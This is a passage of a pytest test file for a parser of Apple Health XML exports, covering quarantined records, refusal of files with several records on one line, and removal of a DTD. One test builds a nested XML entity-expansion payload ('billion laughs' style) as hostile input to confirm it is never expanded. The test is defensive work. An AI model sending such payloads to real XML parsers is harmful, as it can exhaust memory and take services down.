    ]
    # stored, so not quarantined (4 records behind 1 stored row), but kept as a record there
    assert (prep.report.rows_accepted, prep.report.rows_quarantined) == (4, 0)
    kept = quarantine_rows(prep)
    assert kept.select("line", "check").rows() == [(first, "carbs_set_unknown")]


def test_records_sharing_a_line_are_refused(tmp_path):
    """Records are told apart by their line (quarantine, counts); the Health app writes one a
    line, so a copy rewritten onto one line is refused rather than miscounted."""
    records = " ".join(
        rec(Q + "BodyMass", WATCH, f"{D2} 08:00", None, v, "kg") for v in ("70", "900", "71")
    )
    path = export(
        tmp_path, BILLION_LAUGHS.split("<!DOCTYPE")[0] + f"<HealthData>\n{records}\n</HealthData>"
    )
    with pytest.raises(DataError) as err:
        read(path)
    assert str(err.value) == (
        f"{path} is not read: line 3 holds several records, and the Health app writes one "
        "record per line (this copy was rewritten); export it again from the Health app."
    )


def test_a_dtd_hiding_the_root_tag_in_a_comment_is_still_removed(tmp_path):
    """`<HealthData` inside a DTD comment, before the entities: the DTD is still read to its
    end and removed, so the entity stays undefined (never expanded)."""
    text = (
        '<?xml version="1.0"?>\n<!DOCTYPE HealthData [\n<!-- <HealthData -->\n'
        + "<!-- " + "x" * 70_000 + " -->\n"
        + '<!ENTITY e0 "ab">\n<!ENTITY e1 "&e0;&e0;&e0;&e0;&e0;&e0;&e0;&e0;&e0;&e0;">\n]>\n'
        + "<HealthData>\n"
        + rec(Q + "StepCount", WATCH, f"{D2} 08:00", f"{D2} 08:30", "100", "count") + "\n"
        + rec(Q + "StepCount", "&e1;", f"{D2} 09:00", f"{D2} 09:30", "200", "count") + "\n"
        + "</HealthData>"
    )  # fmt: skip
    got = read(export(tmp_path, text))
    assert got.tables["activity_daily"]["steps"].to_list() == [100]
    assert got.failures["check"].to_list() == ["xml_damaged"]
    assert "Entity 'e1' not defined" in got.warnings[0]
    assert "abab" not in str(got.failures.rows()) + str(got.warnings)
